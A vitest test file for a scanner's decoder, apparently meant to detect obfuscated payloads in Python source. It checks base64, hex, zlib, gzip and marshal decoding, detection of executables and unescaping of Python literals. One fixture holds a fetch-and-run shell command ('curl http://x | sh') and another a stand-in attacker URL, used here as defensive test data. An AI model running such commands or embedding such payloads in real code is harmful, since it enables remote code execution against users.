import { describe, it, expect } from 'vitest';
import { deflateSync, gzipSync } from 'node:zlib';
import { decodeLiteral, looksLikePython } from '../../../src/scan/analyze/decode.js';
import { literalValue } from '../../../src/scan/analyze/strings.js';

const CODE = "import os\nos.system('curl http://x | sh')\n";

describe('decodeLiteral', () => {
  it('decodes base64, hex, zlib and gzip layers, nested', () => {
    expect(decodeLiteral(Buffer.from(CODE).toString('base64'))?.text).toBe(CODE);
    expect(decodeLiteral(Buffer.from(CODE).toString('hex'))?.layers).toEqual(['hex']);
    const z = decodeLiteral(deflateSync(Buffer.from(CODE)).toString('base64'));
    expect(z?.layers).toEqual(['base64', 'zlib']);
    const nested = Buffer.from(Buffer.from(gzipSync(Buffer.from(CODE))).toString('base64')).toString('base64');
    expect(decodeLiteral(nested)?.text).toBe(CODE);
  });
  it('reads marshal blobs as their strings and flags executables', () => {
    const marshal = Buffer.concat([Buffer.from([0xe3, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]), Buffer.from('\x00\x00systemXXXX\x01https://evil.example/x\x00', 'latin1')]);
    expect(decodeLiteral(marshal.toString('base64'))?.text).toContain('https://evil.example/x');
    const pe = Buffer.concat([Buffer.from('MZ'), Buffer.from(Array.from({ length: 100 }, (_, i) => (i * 37) % 256))]);
    expect(decodeLiteral(pe.toString('base64'))?.executable).toBe(true);
  });
  it('leaves prose, identifiers and short strings alone', () => {
    expect(decodeLiteral('The quick brown fox jumps over the lazy dog again')).toBeUndefined();
    expect(decodeLiteral('SOME_LONG_CONSTANT_NAME_FOR_SETTINGS')).toBeUndefined();
    expect(decodeLiteral('abc')).toBeUndefined();
    expect(looksLikePython('hello world')).toBe(false);
  });
  it('unescapes Python literals', () => {
    expect(literalValue(String.raw`'\x41\101\u0042\n'`).value).toBe('AAB\n');
    expect(literalValue(String.raw`r'\x41'`).value).toBe('\\x41');
    expect(literalValue(`b"\\xff"`)).toEqual({ value: '\xff', bytes: true });
  });
});
